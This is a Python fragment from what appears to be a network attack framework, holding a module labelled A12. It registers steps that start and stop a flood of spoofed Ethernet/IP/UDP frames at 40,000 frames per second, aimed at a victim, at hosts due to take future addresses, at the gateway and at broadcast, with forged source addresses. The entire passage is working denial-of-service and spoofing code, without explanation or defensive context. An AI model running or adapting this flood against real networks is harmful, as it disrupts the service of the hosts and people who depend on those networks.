# A12: at every moment, while things around change: forty thousand frames a second.
import threading

FLOOD = {}

def flooding(e, frames):
    FLOOD['sent'], FLOOD['begun'] = 0, time.time()
    while FLOOD['on']:
        for raw in frames:
            try: wire().send(raw)
            except OSError: pass
        FLOOD['sent'] += len(frames)
        ahead = FLOOD['sent'] / 40000 - (time.time() - FLOOD['begun'])
        if ahead > 0: time.sleep(ahead)

@attack('A12', 'flood begins', LEARNS)
def _(e, f):
    frames = []
    for f in (4, 6):
        # To those who are here, and to those who will have the next addresses.
        for whom in (e.victim, e.next, e.later_yet):
            for src in (e.me[f], e.friend[f]):
                for dmac in (whom['mac'], e.gate['mac'], BROADCAST):
                    frames.append(bytes(Ether(src=e.me['mac'], dst=dmac) / ip(f, src, whom[f]) / UDP(sport=4000, dport=4000) / TOKEN))
    FLOOD['on'] = True
    FLOOD['thread'] = threading.Thread(target=flooding, args=(e, frames), daemon=True)
    FLOOD['thread'].start()

@attack('A12', 'flood ends', LEARNS)
def _(e, f):
    FLOOD['on'] = False
    FLOOD['thread'].join()
    return [FLOOD['sent'], int(FLOOD['sent'] / (time.time() - FLOOD['begun']))]
